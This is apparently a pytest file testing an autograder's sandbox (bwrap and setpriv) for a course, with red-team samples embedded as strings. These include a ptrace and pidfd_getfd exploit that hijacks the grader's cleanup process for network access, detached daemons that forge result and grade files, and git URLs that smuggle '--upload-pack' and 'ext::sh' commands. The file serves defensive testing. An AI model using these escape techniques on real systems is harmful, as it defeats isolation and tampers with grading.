"""The grader's sandbox: the Python it runs (a venv, a base interpreter without torch), what it
shows a submission, the limits it holds it to, and a judge no output can exhaust."""

from __future__ import annotations

import errno
import json
import os
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
import torch

from minilm.course import tasks
from solutions.grading import judge, sandbox, submissions
from solutions.tests.grading_helpers import (
    NOTEBOOKS,
    P11,
    P12,
    ROOT,
    needs_bwrap,
    prepend,
    reference,
    run_grade,
    stub,
    submission,
)

# One worker for the module under `minilm test all`: its setpriv tests use the grader's uids and a fixed path in
# /tmp (what a sandboxed uid leaves behind), which two of them running at once would share.
pytestmark = pytest.mark.xdist_group("grade_sandbox")

# ---------------------------------------------------------------- the grader's own Python, wherever it is


def _base_interpreter() -> str:
    """The interpreter a venv was made from (the old grader ran this one inside the sandbox)."""
    return os.path.realpath(getattr(sys, "_base_executable", sys.executable))


def _imports_torch(python: str) -> bool:
    return subprocess.run([python, "-I", "-c", "import torch"], capture_output=True, timeout=120).returncode == 0


@needs_bwrap
def test_preflight_names_a_sandbox_python_that_cannot_import_torch(tmp_path):
    from solutions.grading import cli

    base = _base_interpreter()
    if _imports_torch(base):
        pytest.skip(f"{base} imports torch itself: no interpreter without torch to run in the sandbox here")
    box = sandbox.Sandbox("bwrap", python=base)
    with pytest.raises(cli.GradeError, match=r"^the sandbox's Python \(bwrap: .*\) cannot import torch: "
                                             r".*No module named 'torch'"):
        cli.preflight(box, tmp_path)
    cli.preflight(sandbox.Sandbox("bwrap"), tmp_path / "ok")  # the grader's own interpreter runs the course


@needs_bwrap
def test_preflight_asks_the_same_sandbox_python_once(tmp_path, monkeypatch):
    # Seconds in every grading run: once the sandbox's Python ran the course, the same sandbox, limits and
    # Python are not asked again; other limits are, and a Python that cannot run the course every time.
    from solutions.grading import cli

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    runs, real = [], sandbox.run
    monkeypatch.setattr(sandbox, "run", lambda box, argv, *a, **k: runs.append(box) or real(box, argv, *a, **k))
    box = sandbox.Sandbox("bwrap")
    cli.preflight(box, tmp_path / "first")
    cli.preflight(box, tmp_path / "again")
    assert len(runs) == 1
    cli.preflight(sandbox.Sandbox("bwrap", memory_mb=box.memory_mb + 512), tmp_path / "more-memory")
    assert len(runs) == 2
    base = _base_interpreter()
    if not _imports_torch(base):
        for attempt in ("no-torch", "no-torch-again"):
            with pytest.raises(cli.GradeError, match="cannot import torch"):
                cli.preflight(sandbox.Sandbox("bwrap", python=base), tmp_path / attempt)
        assert len(runs) == 4


@needs_bwrap
@pytest.mark.slow
def test_grading_from_a_venv_made_from_an_interpreter_without_torch(tmp_path):
    # A newcomer's setup: a venv made from an interpreter that has no torch, with torch and the
    # course installed into the venv (here: the venv's site folder adds this one's, where they are).
    import sysconfig

    base = "/usr/bin/python3" if os.path.exists("/usr/bin/python3") else _base_interpreter()
    if _imports_torch(base):
        pytest.skip(f"{base} imports torch itself: no interpreter without torch to make a venv from")
    venv = tmp_path / "newcomer"
    subprocess.run([base, "-m", "venv", "--without-pip", str(venv)], check=True, timeout=120)
    python = venv / "bin" / "python"
    purelib = subprocess.run([python, "-c", "import sysconfig; print(sysconfig.get_paths()['purelib'])"],
                             capture_output=True, text=True, check=True).stdout.strip()
    here = sysconfig.get_paths()["purelib"]
    (Path(purelib) / "course-env.pth").write_text(f"import site; site.addsitedir({here!r})\n")
    assert subprocess.run([python, "-c", "import torch, einops"], capture_output=True).returncode == 0
    # One notebook: the worker and a kernel, each importing torch in the sandbox, are what this is about.
    sub = submission(tmp_path, "newcomer-sub", linear=reference("linear"))
    env = {**os.environ, "PYTHONWARNINGS": "ignore"}
    env.pop("MINILM_IMPL", None)
    r = subprocess.run([str(python), "-m", "solutions.grading", str(sub), "--notebooks", NOTEBOOKS[0], "--jobs", "2",
                        "--out", str(tmp_path / "out")], cwd=ROOT, env=env, capture_output=True, text=True, timeout=900)
    assert r.returncode == 0, r.stdout[-3000:] + r.stderr[-3000:]
    got = json.loads((tmp_path / "out" / "grades.json").read_text(encoding="utf-8"))["students"][0]
    assert got["total"] == got["max"] == P11 + P12, got


@needs_bwrap
def test_the_sandbox_sees_the_runtime_but_not_the_course_or_the_reference(tmp_path, monkeypatch):
    # A non-editable install puts `solutions` into a site folder that the sandbox binds: it is
    # hidden there; the course's own folder is not bound at all (only the workspace's copy is seen).
    site_dir = tmp_path / "site-packages"
    (site_dir / "solutions").mkdir(parents=True)
    (site_dir / "solutions" / "linear.py").write_text("ANSWER = 42\n")
    monkeypatch.syspath_prepend(str(site_dir))
    import tempfile

    monkeypatch.syspath_prepend(tempfile.gettempdir())  # where every workspace is made: never bound
    assert os.path.realpath(tempfile.gettempdir()) not in sandbox._runtime_paths()
    assert str(site_dir) in sandbox._runtime_paths()
    ws, out = tmp_path / "ws", tmp_path / "out"
    ws.mkdir()
    out.mkdir()
    box = sandbox.Sandbox("bwrap")
    probe = ("import os, sys, torch; print(sorted(os.listdir(sys.argv[1])), os.path.exists(sys.argv[2]), "
             "os.path.exists(sys.argv[3]))")
    log = tmp_path / "log"
    (ws / "probe.py").write_text(probe)
    box.prepare(ws, out, 0)
    run = sandbox.run(box, ["probe.py", str(site_dir / "solutions"), str(ROOT / "solutions"), str(site_dir)], ws, out,
                      box.env({}, ws, out), 0, timeout=120, log=log)
    assert run.returncode == 0, log.read_text()
    assert log.read_text().split() == ["[]", "False", "True"], log.read_text()


def test_a_submission_is_named_by_the_instructor_never_by_its_contents(tmp_path):
    # carol.zip holding bob/minilm/… is carol; two inputs of one name stop the batch before grading.
    src = submission(tmp_path / "src", "bob", linear=reference("linear"))
    with zipfile.ZipFile(tmp_path / "carol.zip", "w") as z:
        for f in src.rglob("*.py"):
            z.write(f, "bob/" + f.relative_to(src).as_posix())
    assert submissions.resolve(str(tmp_path / "carol.zip"), tmp_path / "x").name == "carol"
    other = submission(tmp_path / "again", "bob")
    r = run_grade(str(src), str(other), "--tasks", "1.1", "--no-sandbox", "--out", str(tmp_path / "out"))
    assert r.returncode == 2 and "two submissions have the same name (bob: " in r.stderr, r.stderr
    assert not (tmp_path / "out" / "grades.csv").exists()


def test_git_submissions_are_https_only_and_gits_words_stay_out(tmp_path):
    local = tmp_path / "classmate.git"
    subprocess.run(["git", "init", "-q", "--bare", str(local)], check=True)
    for url in (f"file://{local}", "ssh://example.org/x.git", "git@example.org:x.git",
                "https://example.org/x y --upload-pack=touch"):
        with pytest.raises(submissions.SubmissionError, match="only https:// repository URLs are graded"):
            submissions.resolve(url, tmp_path / "fetch")
    for path in (str(tmp_path / "nothing.git"), "ext::sh -c touch% /tmp/x"):  # paths, never handed to git
        with pytest.raises(submissions.SubmissionError, match="no such file or directory"):
            submissions.resolve(path, tmp_path / "fetch")
    # A server that answers with words of its own: none of them reach the submission's line.
    with pytest.raises(submissions.SubmissionError) as e:
        submissions.resolve("https://127.0.0.1:9/nothing.git", tmp_path / "fetch2")
    assert "git's exit status" in str(e.value) and "fatal" not in str(e.value) and "127.0.0.1:9" in str(e.value)


@needs_bwrap
def test_the_sandbox_holds_a_submission_to_its_limits_and_a_read_only_workspace(tmp_path):
    ws, out = tmp_path / "ws", tmp_path / "out"
    ws.mkdir()
    out.mkdir()
    (ws / "probe.py").write_text("""
import os, sys
def attempt(f):
    try:
        f()
        return "yes"
    except OSError as e:
        return type(e).__name__
def big():
    with open("/tmp/big", "wb") as f:
        f.write(bytes(2**20) * 40)
print("ws-writable", attempt(lambda: open("/ws/probe.py", "a").write("x")))
print("tmp-40MB", attempt(big))
import threading, time
threading.stack_size(64 * 1024)
started = 0
try:
    for _ in range(700):  # more threads than the pids limit allows (a fork bomb, politely)
        threading.Thread(target=time.sleep, args=(3,), daemon=True).start()
        started += 1
except RuntimeError:
    pass
print("threads", started)
""")
    box = sandbox.Sandbox("bwrap", memory_mb=2048, tmp_mb=16)
    box.prepare(ws, out, 0)
    log = tmp_path / "log"
    run = sandbox.run(box, ["probe.py"], ws, out, box.env({}, ws, out), 0, timeout=120, log=log)
    got = dict(line.split(" ", 1) for line in log.read_text().split("\n") if line)
    assert run.returncode == 0 and got["ws-writable"] == "OSError" and got["tmp-40MB"] == "OSError", log.read_text()
    if "pids" in run.unlimited:
        pytest.skip(f"no pids cgroup here (reported: {run.unlimited}); the rest held")
    assert int(got["threads"]) < sandbox.PIDS_MAX, got


@needs_bwrap
def test_a_run_that_fills_the_graders_disk_is_stopped_and_costs_only_itself(tmp_path):
    # Red team: code in the sandbox wrote 900 MB into the nbval results folder on the grader's disk.
    ws, out = tmp_path / "ws", tmp_path / "out"
    ws.mkdir()
    out.mkdir()
    (ws / "fill.py").write_text("import sys\nfor i in range(40):\n    open(f'{sys.argv[1]}/junk{i}', 'wb').write(bytes(2**25))\n")
    box = sandbox.Sandbox("bwrap", memory_mb=2048)
    box.prepare(ws, out, 0)
    run = sandbox.run(box, ["fill.py", sandbox.OUT], ws, out, box.env({}, ws, out), 0, timeout=120, log=tmp_path / "log")
    assert run.wrote_too_much and run.returncode is None and list(out.iterdir()) == []
    assert sandbox.written([tmp_path]) [0] < sandbox.WRITE_MAX_BYTES


def test_no_output_can_exhaust_the_judge(tmp_path):
    # Found by the third red team: a 4.4 kB results file holding a stride-0 view of a huge shape
    # (a free output of Task 1.2) took the trusted grader from 0.37 GB to 2.6 GB; at 50,000 × 50,000
    # it would need 40 GB. Every tensor is checked against the bounds before any value is read.
    import resource

    cases, n = judge.make_cases("1.2", 3)
    huge = torch.zeros(1).expand(50_000, 50_000)
    overlapping = torch.zeros(8_000).as_strided((4_000, 4_000), (1, 1))  # 16M elements over 8,000 floats
    rows = [{"ok": True, "out": {key: huge for key in ("init", "y", "weight")}} for _ in cases]
    rows[0]["out"]["extra"] = [overlapping, {"deep": huge}]
    path = tmp_path / "1.2.pt"
    torch.save(rows, path)
    assert path.stat().st_size < 100_000
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    loaded = judge.load_results(path, len(cases))
    verdict = judge.judge_task("1.2", cases, n, loaded)
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert not verdict.ok and grown_mb < 200, (verdict, grown_mb)
    assert loaded[0]["out"]["init"] == judge.UNUSABLE and loaded[0]["out"]["extra"][0] == judge.UNUSABLE
    assert loaded[0]["out"]["extra"][1]["deep"] == judge.UNUSABLE
    # Honest outputs pass the bounds unchanged: the reference's own, through the worker's plain data.
    from minilm.course.sandboxed import worker

    # Red team: rows that share one list through pickle's references (a few kB on disk) grew the judge to 1.6 GB
    # as it walked each reference again: a container met twice, or past the item budget, is refused.
    shared = [torch.zeros(1)] * 1000
    for _ in range(3):
        shared = [shared] * 1000
    torch.save([{"ok": True, "out": {"init": shared, "y": shared}} for _ in cases], path)
    assert path.stat().st_size < 100_000
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    loaded = judge.load_results(path, len(cases))
    assert not judge.judge_task("1.2", cases, n, loaded).ok
    assert (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024 < 200
    assert loaded[0]["out"]["y"] == judge.UNUSABLE  # the list met a second time
    honest = [{"ok": True, "out": {k: worker._plain(v) for k, v in out.items()}}
              for out in judge.expected("1.2", cases)]
    torch.save(honest, path)
    assert judge.judge_task("1.2", cases, n, judge.load_results(path, len(cases))).ok


def test_mistakes_run_in_the_reference_pool_never_in_the_graders_own_modules():
    # A mistake is patched into the reference only inside a pool process; the grader's own
    # solutions modules never change, so threads judging side by side need no lock and agree.
    import concurrent.futures

    from solutions import rmsnorm

    before = rmsnorm.rms_norm
    cases, _ = judge.make_cases("3.1", 5)
    outs = judge.mistake_outputs("3.1", cases)
    assert outs and rmsnorm.rms_norm is before and not hasattr(judge, "_REFERENCE")
    ids = ["3.1", "6.1", "1.1", "5.1", "10.1", "3.1"]
    one_by_one = [judge.expected(t, judge.make_cases(t, 9)[0]) for t in ids]
    with concurrent.futures.ThreadPoolExecutor(len(ids)) as pool:
        side_by_side = list(pool.map(lambda t: judge.expected(t, judge.make_cases(t, 9)[0]), ids))
    for task, a, b in zip(ids, one_by_one, side_by_side):
        for row_a, row_b in zip(a, b, strict=True):
            assert row_a.keys() == row_b.keys() and all(judge.differs(row_b[k], row_a[k], 0.0, 0.0) is None
                                                        for k in row_a), task


FORGER = '''import os as _os, time as _time, torch as _torch
def _forge():
    rows = [{"ok": True, "out": {"y": _torch.zeros(1)}}]
    for _ in range(40):
        try:
            _torch.save(rows, "/out/1.1.pt")
        except Exception:
            pass
        _time.sleep(0.05)
if _os.fork() == 0:
    _os.setsid()
    _forge()
    _os._exit(0)
_forge()
'''


@needs_bwrap
def test_a_task_cannot_write_another_tasks_results(tmp_path):
    # Found by the third red team: a later task's child rewrote an earlier task's results file.
    # Here 3.1's module, when its child imports it, would forge 1.1's file at once and from a daemon: the
    # recorder refuses its fork before it runs, and the worker's own outputs (1.1 is a stub) are what the
    # grader reads.
    import shutil

    from solutions.grading import cli

    ws, out = tmp_path / "ws", tmp_path / "out"
    shutil.copytree(tasks.PACKAGE_DIR, ws / "minilm", ignore=cli._ignore)
    for module in tasks.EXERCISE_MODULES:
        (ws / "minilm" / f"{module}.py").write_text(stub(module) if module != "rmsnorm"
                                                    else prepend(stub(module), FORGER))
    out.mkdir()
    cases = {t: judge.make_cases(t, 4)[0] for t in ("1.1", "3.1")}
    torch.save({"tasks": ["1.1", "3.1"], "cases": cases}, ws / "cases.pt")
    box = sandbox.Sandbox("bwrap")
    box.prepare(ws, out, 0)
    log = tmp_path / "log"
    run = sandbox.run(box, ["-m", "minilm.course.sandboxed.worker", f"{sandbox.WS}/cases.pt", sandbox.OUT, "60",
                            "--sandboxed"], ws, out, box.env({}, ws, out), 0, timeout=300, log=log)
    assert run.returncode == 0, log.read_text()[-2000:]
    rows = judge.load_results(out / "1.1.pt", len(cases["1.1"]))
    assert rows is not None and all(r == {"ok": False, "error": judge.STUB} for r in rows), rows[:1]
    assert sorted(p.name for p in out.iterdir()) == ["1.1.hidden.pt", "1.1.pt", "3.1.refused.json"]
    assert "os.fork" in judge.load_refusal(out, "3.1")


DAEMON = """import os, socket, sys, time
reports, port = sys.argv[1], int(sys.argv[2])
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(100):
            time.sleep(0.05)
            try:
                socket.create_connection(("127.0.0.1", port), timeout=0.2).sendall(b"leaked")
            except OSError:
                pass
            try:
                open(reports + "/grades.csv", "w").write("forged")
            except OSError:
                pass
    os._exit(0)
"""


@needs_bwrap
def test_a_daemon_dies_with_its_sandbox_and_reaches_neither_the_reports_nor_the_network(tmp_path):
    # What the grader's own rule would refuse, run as it is: a detached daemon (double fork, setsid) that would
    # rewrite the reports after the run and call a server on the grader's loopback.
    import socket

    ws, out, reports = tmp_path / "ws", tmp_path / "out", tmp_path / "reports"
    for d in (ws, out, reports):
        d.mkdir()
    (ws / "daemon.py").write_text(DAEMON)
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.1)
    box = sandbox.Sandbox("bwrap", memory_mb=2048)
    box.prepare(ws, out, 0)
    run = sandbox.run(box, ["daemon.py", str(reports), str(server.getsockname()[1])], ws, out,
                      box.env({}, ws, out), 0, timeout=60, log=tmp_path / "log")
    time.sleep(2)  # the daemon, had it lived, wrote every 0.05 s
    try:
        connection = server.accept()
    except OSError:
        connection = None
    server.close()
    assert run.returncode == 0 and connection is None and list(reports.iterdir()) == [], (tmp_path / "log").read_text()


# ---------------------------------------------------------------- setpriv: root without namespaces (Gradescope's)


needs_setpriv = pytest.mark.skipif(sandbox.setpriv_path() is None,
                                   reason="setpriv needs Linux, root and util-linux's setpriv")
SYSTEM_PYTHON = "/usr/bin/python3"  # any uid may run it (the grader's venv may sit in a folder only root enters)


def _uid_processes(uid: int) -> list[int]:
    """The live (not zombie) processes of `uid`."""
    found = []
    for p in Path("/proc").iterdir():
        try:
            status = (p / "status").read_text() if p.name.isdigit() else ""
        except OSError:
            continue
        fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
        if fields and int(fields["Uid"].split()[0]) == uid and not fields["State"].strip().startswith("Z"):
            found.append(int(p.name))
    return found


SETPRIV_PROBE = r"""
import ctypes, json, os, resource, socket, sys, time
secret, other_ws, other_out, scratch, out, ending, port = sys.argv[1:8]
def attempt(f):
    try:
        f()
        return "yes"
    except OSError as e:
        return type(e).__name__
def refused(f):  # the network: which errno
    try:
        f()
        return "yes"
    except OSError as e:
        return e.errno
home, tmp = os.environ["HOME"], os.environ["TMPDIR"]
got = {
    "uid": os.getuid(), "gid": os.getgid(), "groups": os.getgroups(),
    "caps": [line.split()[1] for line in open("/proc/self/status") if line.startswith(("CapEff", "CapBnd", "CapInh"))],
    "nproc": resource.getrlimit(resource.RLIMIT_NPROC)[0], "as": resource.getrlimit(resource.RLIMIT_AS)[0],
    "cpu": resource.getrlimit(resource.RLIMIT_CPU)[0],
    "secret": attempt(lambda: open(secret).read()),
    "other-ws": attempt(lambda: open(other_ws + "/minilm/linear.py").read()),
    "other-out": attempt(lambda: open(other_out + "/1.1.pt", "w").write("x")),
    "list-scratch": attempt(lambda: os.listdir(scratch)),
    "ws-write": attempt(lambda: open("minilm/linear.py", "a").write("x")),
    "ws-new": attempt(lambda: open("minilm/new.py", "w").write("x")),
    "ws-rename": attempt(lambda: os.rename(os.getcwd(), os.getcwd() + "-old")),
    "ws-chmod": attempt(lambda: os.chmod("minilm/linear.py", 0o666)),
    "out-write": attempt(lambda: open(out + "/1.1.pt", "w").write("mine")),
    "home": attempt(lambda: open(home + "/x", "w").write("x")) + oct(os.stat(home).st_mode & 0o777),
    "tmpdir": attempt(lambda: open(tmp + "/x", "w").write("x")),
    "world-tmp": attempt(lambda: open("/tmp/minilm-setpriv-probe-left", "w").write("x")),
    # System V shared memory outlives every process: 64 MB held until someone removes it.
    "shm": ctypes.CDLL(None).shmget(0, 64 << 20, 0o1600) >= 0,
    # POSIX message queues too (O_CREAT | O_RDWR, default sizes).
    "mqueue": ctypes.CDLL("librt.so.1").mq_open(b"/minilm-probe", 0o100 | 2, 0o600, None) >= 0,
    # The network: a grader's port on loopback (a classmate's kernel, say), UDP out, a unix socket pair.
    "tcp": refused(lambda: socket.create_connection(("127.0.0.1", int(port)), timeout=5)),
    "udp": refused(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", int(port)))),
    "tcp6": refused(lambda: socket.socket(socket.AF_INET6)),
    "netlink": refused(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)),
    "unix-pair": refused(lambda: socket.socketpair()),
    "inet-pair": refused(lambda: socket.socketpair(socket.AF_INET)),
    # A namespace of its own (a user and network namespace, where the kernel lets users make them).
    "unshare": ctypes.CDLL(None).unshare(0x10000000 | 0x40000000) == 0,
}
if os.fork() == 0:  # a daemon: its own session, then sleeps far past the run
    os.setsid()
    if os.fork() == 0:
        time.sleep(300)
    os._exit(0)
print(json.dumps(got), flush=True)
if ending == "hang":
    time.sleep(300)
"""


@needs_setpriv
@pytest.mark.skipif(not os.access(SYSTEM_PYTHON, os.X_OK), reason=f"no {SYSTEM_PYTHON}")
@pytest.mark.parametrize("ending", ["exits", "hang"])
def test_setpriv_closes_the_reference_classmates_and_the_workspace_and_leaves_nothing_running(ending):
    # As cli.py lays them out: a scratch folder root's (0711), a folder per submission (slot).
    import shutil
    import tempfile

    scratch = Path(tempfile.mkdtemp(prefix="minilm-grade-"))
    os.chmod(scratch, 0o711)
    secret = Path(tempfile.mkdtemp(prefix="minilm-reference-")) / "hidden_cases.py"  # root's alone, as in the bundle
    secret.write_text("ANSWER = 42\n")
    import socket

    tcp = socket.create_server(("127.0.0.1", 0))
    box = sandbox.Sandbox("setpriv", python=SYSTEM_PYTHON)
    try:
        for slot in (0, 1):
            ws, out = scratch / f"s{slot}" / "ws", scratch / f"s{slot}" / "out"
            (ws / "minilm").mkdir(parents=True)
            (ws / "minilm" / "linear.py").write_text("# provided\n")
            (ws / "probe.py").write_text(SETPRIV_PROBE)
            out.mkdir()
            box.prepare(ws, out, slot)
        ws, out, log = scratch / "s0" / "ws", scratch / "s0" / "out", scratch / "s0" / "log"
        argv = ["probe.py", str(secret), str(scratch / "s1" / "ws"), str(scratch / "s1" / "out"), str(scratch),
                str(out), ending, str(tcp.getsockname()[1])]
        run = sandbox.run(box, argv, ws, out, box.env({}, ws, out), 0, timeout=5 if ending == "hang" else 60, log=log)
        uid = sandbox.setpriv_uid(0)
        got = json.loads(log.read_text().splitlines()[0])
        assert (run.returncode is None) == (ending == "hang"), log.read_text()
        assert got["uid"] == got["gid"] == uid and got["groups"] == [] and set(got["caps"]) == {"0000000000000000"}, got
        assert got["nproc"] == sandbox.PIDS_MAX and got["as"] == box.memory_mb * 2**20 and got["cpu"] > 0, got
        for what in ("secret", "other-ws", "other-out", "list-scratch", "ws-write", "ws-new", "ws-rename", "ws-chmod"):
            assert got[what] == "PermissionError", (what, got)
        assert got["out-write"] == got["tmpdir"] == got["world-tmp"] == "yes" and got["home"] == "yes0o700", got
        assert got["shm"], got
        # The seccomp filter: unix sockets only (EOPNOTSUPP). No message queue (RLIMIT_MSGQUEUE 0).
        assert {got[k] for k in ("tcp", "udp", "tcp6", "netlink", "inet-pair")} == {errno.EOPNOTSUPP}, got
        assert got["unix-pair"] == "yes" and not got["mqueue"] and not got["unshare"], got
        # Afterwards: nothing of its uid runs (the daemon neither), its results are root's, its home
        # and what it left in /tmp are gone, and the workspace is as it was.
        assert _uid_processes(uid) == [], _uid_processes(uid)
        assert (out / "1.1.pt").read_text() == "mine" and (out / "1.1.pt").stat().st_uid == 0 and out.stat().st_uid == 0
        assert not (ws.parent / "home").exists() and not Path("/tmp/minilm-setpriv-probe-left").exists()
        ipc = [line.split() for kind in ("shm", "sem", "msg") for line in
               Path(f"/proc/sysvipc/{kind}").read_text().splitlines()[1:]]
        assert not [row for row in ipc if str(uid) in row], ipc  # its shared memory removed with it
        assert (ws / "minilm" / "linear.py").read_text() == "# provided\n"
    finally:
        shutil.rmtree(scratch, ignore_errors=True)
        shutil.rmtree(secret.parent, ignore_errors=True)
        tcp.close()


# Found by the setpriv network red team: after a run, `_end_uid` killed its uid's strays with a
# shell run as that uid, outside the seccomp filter. A daemon of the run that escaped its session
# could reach into that shell before it ran `kill -KILL -1`: attach to it (ptrace), make it call
# socket() and take the socket (pidfd_getfd): TCP out of the sandbox; or stop it (SIGSTOP) and
# outlive the run, as the uid the slot's next submission runs as.
SETPRIV_KILLER_ATTACK = r"""
import ctypes, os, socket, sys, time
how, port = sys.argv[1], int(sys.argv[2])
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype, libc.ptrace.argtypes = ctypes.c_long, [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
me, start = os.getpid(), int(open("/proc/sys/kernel/ns_last_pid").read())
def steal_a_socket(p):  # make p call socket(AF_INET, SOCK_STREAM), then take the fd
    os.waitpid(p, 0x40000000)
    regs = (ctypes.c_ulonglong * 27)()
    libc.ptrace(12, p, None, ctypes.byref(regs))  # PTRACE_GETREGS
    rip = regs[16]
    if libc.ptrace(1, p, ctypes.c_void_p(rip - 2), None) & 0xFFFF != 0x050F:  # stopped right after a syscall?
        libc.ptrace(17, p, None, None)
        return False
    regs[10], regs[14], regs[13], regs[12], regs[15], regs[16] = 41, 2, 1, 0, 2**64 - 1, rip - 2
    libc.ptrace(13, p, None, ctypes.byref(regs))
    libc.ptrace(9, p, None, None)  # PTRACE_SINGLESTEP over the syscall instruction
    os.waitpid(p, 0x40000000)
    libc.ptrace(12, p, None, ctypes.byref(regs))
    fd = libc.syscall(438, libc.syscall(434, p, 0), ctypes.c_int(regs[10]).value, 0)  # pidfd_getfd
    s = socket.socket(fileno=fd)
    s.connect(("127.0.0.1", port))
    s.sendall(b"out")
    os.kill(p, 9)
    return True
caught, deadline = False, time.monotonic() + 60
while time.monotonic() < deadline:
    if caught:
        time.sleep(1)
        continue
    last = int(open("/proc/sys/kernel/ns_last_pid").read())
    for p in range(max(start + 1, last - 4), last + 1):
        if p == me:
            continue
        if how == "ptrace" and libc.ptrace(16, p, None, None) == 0:  # PTRACE_ATTACH
            caught = steal_a_socket(p)
            print("attached to", p, open(f"/proc/{p}/comm").read().strip(), "took a socket:", caught, flush=True)
        elif how == "stop":
            try:
                os.kill(p, 19)
                caught = True
            except OSError:
                pass
"""


@needs_setpriv
@pytest.mark.skipif(not os.access(SYSTEM_PYTHON, os.X_OK)
                    or os.uname().machine != "x86_64", reason=f"no {SYSTEM_PYTHON}, or not x86_64")
@pytest.mark.parametrize("how", ["ptrace", "stop"])
def test_setpriv_a_daemon_can_neither_use_nor_stop_the_grader_s_killer(how, tmp_path):
    import shutil
    import socket
    import tempfile
    import time

    scratch = Path(tempfile.mkdtemp(prefix="minilm-grade-"))
    os.chmod(scratch, 0o711)
    tcp = socket.create_server(("127.0.0.1", 0))
    tcp.settimeout(2)
    box = sandbox.Sandbox("setpriv", python=SYSTEM_PYTHON)
    uid = sandbox.setpriv_uid(0)
    try:
        ws, out, log = scratch / "s0" / "ws", scratch / "s0" / "out", scratch / "s0" / "log"
        ws.mkdir(parents=True)
        out.mkdir()
        (ws / "attack.py").write_text(SETPRIV_KILLER_ATTACK)
        box.prepare(ws, out, 0)
        t0 = time.monotonic()
        sandbox.run(box, ["attack.py", how, str(tcp.getsockname()[1])], ws, out, box.env({}, ws, out), 0, timeout=20,
                    log=log)
        try:
            conn, _ = tcp.accept()
            conn.close()
            reached = True
        except TimeoutError:
            reached = False
        left = _uid_processes(uid)
        assert not reached and left == [], (reached, left, log.read_text())
        assert time.monotonic() - t0 < 25  # the grader did not wait on a stopped killer either
    finally:
        for pid in _uid_processes(uid):
            os.kill(pid, 9)
        shutil.rmtree(scratch, ignore_errors=True)
        tcp.close()


@needs_setpriv
def test_setpriv_is_refused_without_libseccomp(monkeypatch):
    # pyseccomp's import fails where the system has no libseccomp.so.2: no filter, no setpriv sandbox.
    import ctypes.util

    from solutions.grading import seccomp

    monkeypatch.delitem(sys.modules, "pyseccomp", raising=False)
    monkeypatch.setattr(ctypes.util, "find_library", lambda name: None)
    assert not seccomp.available()
    with pytest.raises(sandbox.SandboxUnavailable, match=r"cannot load the seccomp filter .* libseccomp"):
        sandbox.choose("setpriv")


@needs_setpriv
def test_setpriv_is_refused_where_its_uid_could_read_the_reference_or_write_the_runtime(tmp_path):
    import shutil
    import tempfile

    # tmp_path is root's alone (pytest makes it 0700): a reference there is closed to the uid.
    closed = tmp_path / "course" / "solutions"
    closed.mkdir(parents=True)
    (closed / "hidden_cases.py").write_text("ANSWER = 42\n")
    assert sandbox.setpriv_exposure([str(closed)], [str(tmp_path / "course")]) == []
    # A course checked out where anyone may read it, in a venv anyone may write to: refused, by name.
    open_ = Path(tempfile.mkdtemp(prefix="minilm-open-course-"))
    try:
        os.chmod(open_, 0o755)
        (open_ / "solutions").mkdir(mode=0o755)
        (open_ / "solutions" / "hidden_cases.py").write_text("ANSWER = 42\n")
        (open_ / "venv").mkdir()
        os.chmod(open_ / "venv", 0o777)
        got = sandbox.setpriv_exposure([str(open_ / "solutions")], [str(open_), str(open_ / "venv")])
        assert got == [f"readable: {open_}/solutions", f"readable: {open_}/solutions/hidden_cases.py",
                       f"writable: {open_}/venv"], got
    finally:
        shutil.rmtree(open_, ignore_errors=True)
    # This checkout, if anyone may read it, is refused with the fix.
    if sandbox.setpriv_exposure():
        with pytest.raises(sandbox.SandboxUnavailable, match=r"readable: .*solutions.*chmod 700"):
            sandbox.choose("setpriv")
